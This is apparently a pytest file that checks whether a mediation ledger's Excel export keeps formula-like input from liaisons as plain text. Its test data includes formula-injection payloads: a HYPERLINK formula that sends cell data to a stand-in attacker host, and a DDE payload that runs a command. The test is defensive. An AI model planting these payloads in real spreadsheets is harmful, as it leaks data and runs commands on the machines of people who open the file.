"""The ledger's .xlsx writes what liaisons and citizens typed as text, never as a formula."""

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from xinfang.mediation import ledger, screening

from .screening_fixtures import VILLAGE_A1, passed_up_input

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B4,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


def test_formulas_typed_by_a_liaison_are_text_in_the_ledger_xlsx(med, demo_tree, travel):
    travel("2026-03-09")
    screening.screening_report_submit(
        actor=med["liaison_a"],
        village=demo_tree[VILLAGE_A1],
        disputes=[
            passed_up_input(
                summary=HYPERLINK,
                parties=[
                    {"name": DDE, "role": "applicant"},
                    {"name": "@SUM(1+1)", "role": "respondent"},
                ],
            ),
            passed_up_input(summary="+1+2 拖欠\t工资"),
        ],
    )

    data = ledger.export_xlsx(user=med["handler_a"], filters={}, today=dt.date(2026, 3, 10))

    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert HYPERLINK in texts
    assert f"{DDE} — @SUM(1+1)" in texts
    assert "+1+2 拖欠\t工资" in texts
    # Excel keeps them text when someone edits the cell, too.
    assert all(c.quotePrefix for c in cells if c.value in (HYPERLINK, "+1+2 拖欠\t工资"))
